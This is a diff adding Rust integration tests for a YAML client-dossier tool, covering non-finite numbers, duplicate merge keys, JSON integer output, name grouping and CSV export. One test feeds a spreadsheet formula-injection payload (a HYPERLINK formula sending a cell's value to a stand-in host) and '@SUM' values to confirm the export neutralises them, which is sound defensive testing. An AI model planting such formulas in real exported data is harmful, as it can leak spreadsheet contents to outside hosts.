@@ -1,0 +1,278 @@
+//! Faults of the kind found when the tool meets real folders, spreadsheets,
+//! time zones and editors: each test is one instance, run on the real binary.
+
+mod common;
+
+use common::{dossier, dossier_dir, fixture, parse_csv, scratch};
+use std::fs;
+use std::path::PathBuf;
+
+/// The complete, valid dossier of the fixtures (reviewed 2026-10-01, no warnings).
+fn complete() -> String {
+    fs::read_to_string(fixture("check", "valid/complete.yaml")).expect("the fixture")
+}
+
+/// `complete()` with each `(from, to)` replaced once; every `from` must be there.
+fn edited(edits: &[(&str, &str)]) -> String {
+    let mut text = complete();
+    for (from, to) in edits {
+        assert!(text.contains(from), "the fixture has no `{from}`");
+        text = text.replacen(from, to, 1);
+    }
+    text
+}
+
+/// A fresh folder holding `files` (relative path, text).
+fn folder(name: &str, files: &[(&str, &str)]) -> PathBuf {
+    let dir = scratch(name);
+    for (path, text) in files {
+        let path = dir.join(path);
+        fs::create_dir_all(path.parent().expect("a parent")).expect("create a folder");
+        fs::write(path, text).expect("write a dossier");
+    }
+    dir
+}
+
+// ------------------------------------------------------------------ numbers
+
+#[test]
+fn a_number_that_is_not_finite_is_wrong_type_naming_what_was_found() {
+    // Every amount of the format, each with another spelling of YAML's
+    // non-finite numbers.
+    let text = edited(&[
+        ("revenue: 1200000000", "revenue: .inf"),
+        ("net_income: 90000000", "net_income: -.inf"),
+        ("amount: 4500000", "amount: .nan"),
+        ("amount: 30000000", "amount: .NaN"),
+        ("next_year: 12000000", "next_year: .Inf"),
+        (
+            "three_to_five_years: 60000000",
+            "three_to_five_years: +.inf",
+        ),
+    ]);
+    let dir = folder("not-finite", &[("acme.yaml", &text)]);
+    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
+    assert_eq!(run.status, 1, "{run}");
+    let found: Vec<(String, String, u64)> = run.json()["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| {
+            assert_eq!(d["code"], "wrong-type", "{d}");
+            let message = d["message"].as_str().unwrap();
+            let quoted = message.split('`').nth(1).unwrap_or_default().to_owned();
+            (
+                d["key"].as_str().unwrap().to_owned(),
+                quoted,
+                d["column"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        found,
+        [
+            (
+                "client.financials[0].revenue".to_owned(),
+                ".inf".to_owned(),
+                16
+            ),
+            (
+                "client.financials[0].net_income".to_owned(),
+                "-.inf".to_owned(),
+                19
+            ),
+            (
+                "company_view.history[0].amount".to_owned(),
+                ".nan".to_owned(),
+                15
+            ),
+            (
+                "company_view.relationship.purchase_budget.amount".to_owned(),
+                ".NaN".to_owned(),
+                15
+            ),
+            (
+                "company_view.opportunity.next_year".to_owned(),
+                ".Inf".to_owned(),
+                16
+            ),
+            (
+                "company_view.opportunity.three_to_five_years".to_owned(),
+                "+.inf".to_owned(),
+                26
+            ),
+        ],
+        "{run}"
+    );
+    assert!(!run.stdout.contains("floating"), "{run}");
+}
+
+#[test]
+fn totals_never_become_inf_or_nan() {
+    let bad = edited(&[
+        ("next_year: 12000000", "next_year: .inf"),
+        ("three_to_five_years: 60000000", "three_to_five_years: .nan"),
+    ]);
+    let dir = folder(
+        "not-finite-list",
+        &[("acme.yaml", &bad), ("good.yaml", &complete())],
+    );
+    let run = dossier_dir(&dir, &["list"]);
+    assert_eq!(run.status, 2, "the broken dossier is named\n{run}");
+    assert!(run.stderr.contains("acme.yaml:64:16"), "{run}");
+    let shown = run.stdout.to_lowercase();
+    assert!(!shown.contains("inf") && !shown.contains("nan"), "{run}");
+    assert!(run.stdout.contains("12,000,000"), "{run}");
+}
+
+#[test]
+fn a_merge_key_twice_in_one_mapping_is_duplicate_key() {
+    let text = edited(&[
+        (
+            "  - name: Pavel Orlov\n",
+            "  - &ceo\n    name: Pavel Orlov\n",
+        ),
+        (
+            "  - name: Elena Sokolova\n    title: Assistant to the CEO\n",
+            "  - <<: *ceo\n    <<: *cio\n    name: Tom Ober\n  - name: Elena Sokolova\n    title: Assistant to the CEO\n",
+        ),
+        (
+            "  - name: Maria Volkova\n",
+            "  - &cio\n    name: Maria Volkova\n",
+        ),
+    ]);
+    let dir = folder("merge-twice", &[("acme.yaml", &text)]);
+    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
+    assert_eq!(run.status, 1, "{run}");
+    let diagnostics = run.json()["diagnostics"].clone();
+    let first = &diagnostics[0];
+    assert_eq!(first["code"], "duplicate-key", "{run}");
+    assert_eq!(first["key"], "decision_group[2].<<", "{run}");
+    assert_eq!(
+        first["line"],
+        text.lines().position(|l| l == "    <<: *cio").unwrap() + 1
+    );
+    assert_eq!(first["column"], 5, "{run}");
+
+    // Both merged in one `<<` is what the merge-key spec allows.
+    let legal = text.replace("  - <<: *ceo\n    <<: *cio\n", "  - <<: [*ceo, *cio]\n");
+    fs::write(dir.join("acme.yaml"), legal).unwrap();
+    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
+    let codes: Vec<String> = run.json()["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["code"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(!codes.contains(&"duplicate-key".to_owned()), "{run}");
+}
+
+// ------------------------------------------------------------------ exports
+
+#[test]
+fn json_writes_whole_amounts_as_integers() {
+    let dir = folder("json-integers", &[("acme.yaml", &complete())]);
+    let list = dossier_dir(&dir, &["list", "--format", "json"]);
+    assert_eq!(list.status, 0, "{list}");
+    assert!(list.stdout.contains("\"next_year\": 12000000,"), "{list}");
+    let show = dossier_dir(&dir, &["show", "acme", "--format", "json"]);
+    assert_eq!(show.status, 0, "{show}");
+    for out in [&list.stdout, &show.stdout] {
+        assert!(!out.contains(".0,") && !out.contains(".0\n"), "{out}");
+    }
+    assert!(show.stdout.contains("\"revenue\": 1200000000,"), "{show}");
+    assert!(show.stdout.contains("\"amount\": 4500000,"), "{show}");
+    // A fraction stays.
+    fs::write(
+        dir.join("acme.yaml"),
+        edited(&[("next_year: 12000000", "next_year: 1234.5")]),
+    )
+    .unwrap();
+    let list = dossier_dir(&dir, &["list", "--format", "json"]);
+    assert!(list.stdout.contains("\"next_year\": 1234.5,"), "{list}");
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
+    let client = "=HYPERLINK(\"http://x.example/?q=\"&A1,\"Click\")";
+    let text = edited(&[
+        (
+            "name: ACME Logistics LLC",
+            &format!("name: '{}'", client.replace('\'', "''")),
+        ),
+        (
+            "account_manager: Ivan Petrov",
+            "account_manager: '@SUM(1+9)'",
+        ),
+        ("reviewed_by: Ivan Petrov", "reviewed_by: '@SUM(1+9)'"),
+        ("covered_by: Ivan Petrov", "covered_by: '@SUM(1+9)'"),
+    ]);
+    let dir = folder("csv-formulas", &[("acme.yaml", &text)]);
+    for command in ["review", "list"] {
+        let mut args = vec![command, "--format", "csv"];
+        if command == "review" {
+            args.extend(["--all", "--as-of", "2026-11-28"]);
+        }
+        let run = dossier_dir(&dir, &args);
+        assert_eq!(run.status, 0, "{run}");
+        let rows = parse_csv(&run.stdout);
+        let header = &rows[0];
+        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let row = &rows[1];
+        assert_eq!(row[at("client")], format!("'{client}"), "{run}");
+        assert_eq!(row[at("account_manager")], "'@SUM(1+9)", "{run}");
+        // Numbers stay numbers, negative ones too (the review is not yet due).
+        let days: i64 = row[at("days_overdue")].parse().expect("a plain number");
+        assert!(days < 0, "{run}");
+        if command == "list" {
+            assert_eq!(row[at("next_year")], "12000000", "{run}");
+        }
+    }
+}
+
+// ------------------------------------------------------------------ one view
+
+#[test]
+fn managers_are_grouped_as_names_are_compared() {
+    let anna = edited(&[
+        (
+            "account_manager: Ivan Petrov",
+            "account_manager: Анна Кузнецова",
+        ),
+        ("covered_by: Ivan Petrov", "covered_by: Анна Кузнецова"),
+    ]);
+    let anna_spaced = edited(&[
+        (
+            "account_manager: Ivan Petrov",
+            "account_manager: анна  кузнецова",
+        ),
+        ("covered_by: Ivan Petrov", "covered_by: анна  кузнецова"),
+        ("name: ACME Logistics LLC", "name: Second Client"),
+    ]);
+    let dir = folder(
+        "one-manager",
+        &[("a.yaml", &anna), ("b.yaml", &anna_spaced)],
+    );
+    let run = dossier_dir(&dir, &["report", "--as-of", "2026-11-28"]);
+    assert_eq!(run.status, 0, "{run}");
+    let start = run
+        .stdout
+        .find("id=\"totals-manager\"")
+        .expect("the per-manager table");
+    let table = &run.stdout[start..];
+    let table = &table[..table.find("</table>").unwrap()];
+    let body = &table[table.find("<tbody>").unwrap()..];
+    assert_eq!(body.matches("<tr>").count(), 1, "{table}");
+    assert!(body.contains("Анна Кузнецова"), "{table}");
+    assert!(body.contains(">2</td>"), "{table}");
+
+    for command in ["review", "list"] {
+        let mut args = vec![command, "--owner", "АННА КУЗНЕЦОВА", "--format", "json"];
+        if command == "review" {
+            args.push("--all");
+        }
+        let run = dossier_dir(&dir, &args);
+        assert_eq!(run.status, 0, "{run}");
+        assert_eq!(run.json_ids(), ["a", "b"], "{run}");
+    }
+}
